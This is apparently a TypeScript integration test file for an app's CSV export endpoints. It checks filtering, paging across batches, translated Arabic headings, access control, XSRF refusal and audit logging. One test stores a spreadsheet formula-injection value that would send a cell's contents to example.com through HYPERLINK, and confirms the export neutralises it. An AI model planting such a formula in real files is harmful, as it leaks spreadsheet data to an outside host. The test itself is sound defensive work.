import { exportDeclarations } from '@schemas/exports/exports';
import { parse } from 'csv-parse/sync';
import { beforeAll, expect, it } from 'vitest';
import { SEEK_ALL_BATCH } from '../../src/server/repositories/seek-paging';
import { agent, describeEachDb, refuseAuditWrites, signedIn, type Agent } from './helpers';

const BOM = '\uFEFF';

/** Lists as CSV files: their filters, headings in the reader's language, every row once. */
describeEachDb('exports', (server) => {
  let admin: Agent;
  let learnerUid = 0;
  const uidOf = async (name: string) =>
    (await server().db.query<{ uid: number }>('SELECT uid FROM users WHERE name = $1', [name]))
      .rows[0]!.uid;
  /** The file an export answers with, parsed: its heading row and its records. */
  const download = async (who: Agent, url: string, filters: object = {}) => {
    const res = await who.post(url, filters);
    expect(res.statusCode, res.body.slice(0, 500)).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
    expect(res.body.startsWith(BOM)).toBe(true);
    const rows: string[][] = parse(res.body.slice(1));
    const [headings, ...records] = rows;
    return { headings: headings!, records };
  };

  beforeAll(async () => {
    admin = await signedIn(server, 'admin');
    learnerUid = await uidOf('learner');
  });

  it('writes every movement the filters match, once, in the list’s order, past many batches', async () => {
    // More than two batches of one user's movements, with text a spreadsheet must keep whole.
    const rows = SEEK_ALL_BATCH * 2 + 17;
    await server().db.query(
      `INSERT INTO points_ledger (uid, delta, kind, note, source, balance_after, created_at)
       SELECT $1, 1, 'adjust', 'Bonus, "thanks"' || chr(10) || 'مكافأة ' || g, 'test', 0,
              timestamptz '2020-03-01 12:00Z' + g * interval '1 second'
         FROM generate_series(1, $2::int) g`,
      [learnerUid, rows],
    );
    const { headings, records } = await download(admin, '/api/v2/incentives/transactions/export', {
      uid: learnerUid,
      kind: 'adjust',
      from: '2020-03-01',
      to: '2020-03-02',
    });
    expect(headings).toEqual(exportDeclarations.transactions.columns.map((c) => c.title));
    expect(records).toHaveLength(rows);
    const column = (title: string) => headings.indexOf(title);
    const expected = (
      await server().db.query<{ id: string }>(
        `SELECT id::text FROM points_ledger WHERE uid = $1 AND kind = 'adjust'
            AND created_at >= '2020-03-01' AND created_at < '2020-03-03'
          ORDER BY created_at DESC, id DESC`,
        [learnerUid],
      )
    ).rows.map((r) => r.id);
    expect(records.map((r) => r[column('Transaction')])).toEqual(expected);
    expect(records[0]![column('Note')]).toBe(`Bonus, "thanks"\nمكافأة ${rows}`);
    expect(new Set(records.map((r) => r[column('User id')]))).toEqual(
      new Set([String(learnerUid)]),
    );
  });

  it('heads the columns in the administrator’s language and keeps Arabic intact', async () => {
    const uid = await uidOf('admin');
    expect((await admin.patch(`/api/v2/users/${uid}`, { language: 'ar' })).statusCode).toBe(200);
    try {
      const { headings, records } = await download(admin, '/api/v2/users/export', {
        search: 'layla',
      });
      const arabic = (
        await server().db.query<{ source: string; translation: string }>(
          `SELECT source, translation FROM translations WHERE langcode = 'ar' AND context = 'interface'`,
        )
      ).rows;
      const translated = new Map(arabic.map((t) => [t.source, t.translation]));
      expect(headings).toEqual(
        exportDeclarations.users.columns.map((c) => translated.get(c.title) || c.title),
      );
      expect(headings.some((h) => /\p{Script=Arabic}/u.test(h))).toBe(true);
      const layla = await server().db.query<{ uid: number; first_name: string }>(
        `SELECT uid, first_name FROM users WHERE name = 'layla'`,
      );
      expect(records.map((r) => r[0])).toContain(String(layla.rows[0]!.uid));
    } finally {
      await admin.patch(`/api/v2/users/${uid}`, { language: 'en' });
    }
  });

  it('writes text that would start a formula as text', async () => {
    const note = '=HYPERLINK("http://example.com/?leak="&A1,"Click")';
    await server().db.query(
      `INSERT INTO points_ledger (uid, delta, kind, note, source, balance_after, created_at)
       VALUES ($1, -3, 'adjust', $2, '@source', 0, timestamptz '2020-04-01 12:00Z')`,
      [learnerUid, note],
    );
    const { headings, records } = await download(admin, '/api/v2/incentives/transactions/export', {
      uid: learnerUid,
      from: '2020-04-01',
      to: '2020-04-01',
    });
    const [record] = records;
    expect(record![headings.indexOf('Note')]).toBe(`'${note}`);
    expect(record![headings.indexOf('Source')]).toBe(`'@source`);
    // Numbers stay numbers: a negative movement is not text.
    expect(record![headings.indexOf('Points')]).toBe('-3');
  });

  it('lists orders with what was bought, and the audit log, each export recorded', async () => {
    const orders = await download(admin, '/api/v2/incentives/orders/export', {
      status: 'completed',
    });
    const count = await server().db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM incentive_orders WHERE status = 'completed'`,
    );
    expect(orders.records).toHaveLength(count.rows[0]!.n);
    if (orders.records.length) {
      const items = orders.headings.indexOf('Rewards');
      expect(orders.records.every((r) => r[items]!.length > 0)).toBe(true);
    }
    const log = await download(admin, '/api/v2/admin/audit/export', {
      action: 'incentives.orders',
    });
    const action = log.headings.indexOf('Action');
    // The orders' export is in the log the next export reads.
    expect(log.records[0]![action]).toBe('incentives.orders.export');
    const entry = JSON.parse(log.records[0]![log.headings.indexOf('Details')]!) as unknown;
    expect(entry).toEqual({ filters: { status: 'completed' } });
  });

  it('is refused without the list’s access flag, and refuses bad filters with a 400', async () => {
    const learner = await signedIn(server, 'learner');
    for (const url of [
      '/api/v2/incentives/transactions/export',
      '/api/v2/incentives/orders/export',
      '/api/v2/users/export',
      '/api/v2/admin/audit/export',
    ]) {
      expect((await learner.post(url, {})).statusCode, url).toBe(403);
      expect((await agent(server).post(url, {})).statusCode, url).toBe(401);
      // Without the page's XSRF token another site could make the browser ask for it.
      expect((await admin.post(url, {}, { noXsrf: true })).statusCode, url).toBe(403);
    }
    const reversed = await admin.post('/api/v2/incentives/transactions/export', {
      from: '2024-02-01',
      to: '2024-01-01',
    });
    expect(reversed.statusCode).toBe(400);
    expect((await admin.post('/api/v2/users/export', { page: 2 })).statusCode).toBe(400);
  });

  it('sends nothing when the export cannot be recorded', async () => {
    const accept = await refuseAuditWrites(server().db);
    try {
      const res = await admin.post('/api/v2/users/export', {});
      expect(res.statusCode).toBeGreaterThanOrEqual(500);
      expect(res.body).not.toContain('\uFEFF');
    } finally {
      await accept();
    }
  });
});
